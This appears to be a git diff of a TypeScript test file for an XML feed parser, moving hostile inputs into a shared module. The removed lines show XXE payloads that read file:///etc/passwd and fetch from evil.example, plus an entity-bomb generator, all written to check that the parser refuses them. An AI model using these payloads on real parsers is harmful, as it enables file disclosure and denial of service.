@@ -1,7 +1,8 @@
 import { expect, test } from 'vitest';
 import { FeedError } from '../read/feed-error.ts';
 import { attributeOf, childNamed, textOf } from '../read/xml.ts';
-import { parseXml, quickest } from './support.ts';
+import { HOSTILE_XML } from './hostile-xml.ts';
+import { parseXml } from './support.ts';
 
 const text = (xml: string | Uint8Array): string => textOf(parseXml(xml));
 
@@ -98,23 +99,9 @@ test('a DOCTYPE that names an outside file is passed over, and nothing is fetche
   expect(text('<!DOCTYPE propertyList SYSTEM "http://127.0.0.1:1/propertyList.dtd"><a>x</a>')).toBe('x');
 });
 
-test.each([
-  ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
-  ['an external parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>'],
-  ['an entity bomb', entityBomb()],
-  ['10 million character references', `<a>${'&#65;'.repeat(10_000_000)}</a>`],
-  ['two DOCTYPEs', '<!DOCTYPE a SYSTEM "a.dtd"><!DOCTYPE a SYSTEM "b.dtd"><a/>'],
-  ['a DOCTYPE inside', '<a><!DOCTYPE a SYSTEM "a.dtd"><!DOCTYPE b></a>'],
-  ['an entity declared outside a DOCTYPE', '<!ENTITY x "y"><a/>'],
-])('%s is refused within 100 ms', async (_name, xml) => {
-  const bytes = Buffer.from(xml);
-  expect(await quickest(() => expect(() => parseXml(bytes)).toThrow(FeedError))).toBeLessThan(100);
+test.each(HOSTILE_XML)('%s is refused', (_name, xml) => {
+  expect(() => parseXml(Buffer.from(xml))).toThrow(FeedError);
 });
-
-function entityBomb(): string {
-  const lines = Array.from({ length: 20 }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`);
-  return `<!DOCTYPE a [<!ENTITY e0 "ha">${lines.join('')}]><a>&e20;</a>`;
-}
 
 test.each([
   ['cut in a text', '<a><b>x'],
